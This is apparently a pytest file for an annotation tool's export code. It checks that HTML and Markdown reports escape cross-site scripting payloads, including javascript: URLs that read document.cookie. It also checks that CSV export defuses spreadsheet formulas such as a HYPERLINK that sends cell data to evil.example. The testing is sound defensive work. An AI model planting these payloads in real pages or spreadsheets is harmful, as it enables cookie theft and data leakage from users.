"""Hostile text in a project stays text in every export: HTML and Markdown escape it, CSV defuses formulas."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from annotator.domain.models import ImportedDocument
from annotator.export.csv_export import FORMULA_STARTS, neutralise
from annotator.export.formats import export
from annotator.export.model import ReportFilter
from annotator.ops import actors as actor_ops
from annotator.ops import claims as claim_ops
from annotator.ops import events as event_ops
from annotator.ops import verdicts as verdict_ops
from annotator.ops.annotators import ensure_annotator
from annotator.ops.documents import add_document
from annotator.store.project import Project, open_project

SCRIPT = "<script>alert('x')</script>"
IMG = '<img src=x onerror="alert(1)">'
BREAKOUT = '"><b>bold</b>'
PAYLOADS = (SCRIPT, IMG, BREAKOUT)


@pytest.fixture
def hostile(tmp_path: Path) -> Project:
    """A project whose every free-text field carries markup meant to run in a reader's browser."""
    with open_project(tmp_path / "hostile.sqlite") as project:
        who = ensure_annotator(project, f"Mallory {IMG}")
        text = f"Intro. The minister said {SCRIPT} and {IMG} then {BREAKOUT}. =1+2 is not a formula."
        document_id, _ = add_document(
            project,
            ImportedDocument(
                text=text,
                source_format="text",
                source_filename="x.txt",
                title=f"Title {SCRIPT}",
                authors=[f"Author {BREAKOUT}"],
                url="javascript:alert(document.cookie)",
            ),
            created_by=who,
        )
        start = text.index("The minister")
        claim = claim_ops.tag_claim(project, document_id, start, text.index(" then"), "quote", created_by=who)
        actor = actor_ops.create_actor(project, f"Claimant {IMG}", aliases=[BREAKOUT])
        claim_ops.update_claim(
            project,
            claim.id,
            {
                "statement": f"Statement {SCRIPT}",
                "note": f"Note {IMG}",
                "claimant_id": actor.id,
                "tags": [BREAKOUT],
                "stated_text": f"{BREAKOUT}",
            },
        )
        event = event_ops.create_event(project, f"Event {SCRIPT}", "24 February 2022", place=IMG)
        event_ops.link_claim(project, claim.id, event.id, "about")
        verdict = verdict_ops.add_verdict(
            project,
            claim.id,
            "refuted",
            "2023-01-01",
            f"Conclusion {IMG}",
            reasoning=f"Because {SCRIPT}",
            created_by=who,
        )
        verdict_ops.add_url_evidence(
            project,
            claim.id,
            "javascript:alert(2)",
            "refutes",
            archived_url=f"https://a.org/{BREAKOUT}",
            note=f"Evidence note {SCRIPT}",
            verdict_id=verdict.id,
        )
        verdict_ops.add_span_evidence(project, claim.id, document_id, 0, 6, "context", note=BREAKOUT)
        yield project


def test_html_report_renders_every_payload_as_text(hostile: Project) -> None:
    page = export(hostile, "html", ReportFilter(verified_only=False))
    assert isinstance(page, str)
    lowered = page.lower()
    assert "<script" not in lowered
    assert "<img" not in lowered
    assert "<b>" not in lowered
    assert 'onerror="' not in lowered
    # Links go to web pages, or to a claim's own anchor in the page (its heading, the corrections log).
    assert all(href.startswith(("https://", "#claim-")) for href in re.findall(r'href="([^"]*)"', lowered))
    # What the reader sees is the text itself, escaped.
    assert "Statement &lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "Note &lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
    assert "Title &lt;script&gt;" in page
    assert "Claimant &lt;img" in page
    assert "Event &lt;script&gt;" in page
    assert "&quot;&gt;&lt;b&gt;bold&lt;/b&gt;" in page
    assert "Conclusion &lt;img" in page and "Because &lt;script&gt;" in page
    assert "Evidence note &lt;script&gt;" in page
    # A javascript: URL is shown, never linked.
    assert "javascript:alert(document.cookie)" in page
    # And the page itself forbids scripts and remote loads, should anything ever slip through.
    assert "Content-Security-Policy" in page and "default-src &#x27;none&#x27;" in page
    assert not re.search(r"(src|href)=\"https?://", page.split("<body>")[0])


def test_html_report_markup_is_only_ours(hostile: Project) -> None:
    page = export(hostile, "html", ReportFilter(verified_only=False))
    assert isinstance(page, str)
    tags = set(re.findall(r"<\s*([a-zA-Z][a-zA-Z0-9]*)", page))
    assert tags <= {
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "header",
        "div",
        "h1",
        "h2",
        "h3",
        "h4",
        "dl",
        "dt",
        "dd",
        "section",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "span",
        "ol",
        "ul",
        "li",
        "time",
        "strong",
        "article",
        "blockquote",
        "mark",
        "p",
        "br",
        "a",
        "footer",
    }


def test_markdown_report_escapes_markup(hostile: Project) -> None:
    text = export(hostile, "md", ReportFilter(verified_only=False))
    assert isinstance(text, str)
    # Every "<" of user text is backslash-escaped; the only bare ones open our link destinations.
    without_links = re.sub(r"\]\(<https?://[^>]*>\)", "](link)", text)
    assert not re.search(r"(?<!\\)[<&]", without_links)
    assert "Statement \\<script\\>" in text
    assert "](<javascript" not in text  # not a link


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cells_that_a_spreadsheet_would_evaluate_are_neutralised(tmp_path: Path, start: str) -> None:
    payload = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    with open_project(tmp_path / "p.sqlite") as project:
        text = f"Before. {payload} after."
        document_id, _ = add_document(
            project, ImportedDocument(text=text, source_format="text", source_filename="x.txt", title=payload)
        )
        begin = text.index(payload)
        claim = claim_ops.tag_claim(project, document_id, begin, begin + len(payload), "factual")
        claim_ops.update_claim(project, claim.id, {"statement": payload, "note": payload, "tags": [payload]})
        rendered = export(project, "csv", ReportFilter(verified_only=False))
    assert isinstance(rendered, str)
    [header, row] = list(csv.reader(io.StringIO(rendered, newline="")))
    cells = dict(zip(header, row, strict=True))
    for column in ("statement", "quote", "note", "tags", "document_title"):
        assert cells[column] == "'" + payload, column
    for cell in row:
        assert not cell.startswith(FORMULA_STARTS), cell


def test_neutralise_leaves_ordinary_text_alone() -> None:
    assert neutralise("Belarus will not join") == "Belarus will not join"
    assert neutralise("") == ""
    assert neutralise("2022-03-17") == "2022-03-17"
    assert neutralise("-5") == "'-5"
    assert neutralise("\r=1") == "'\r=1"
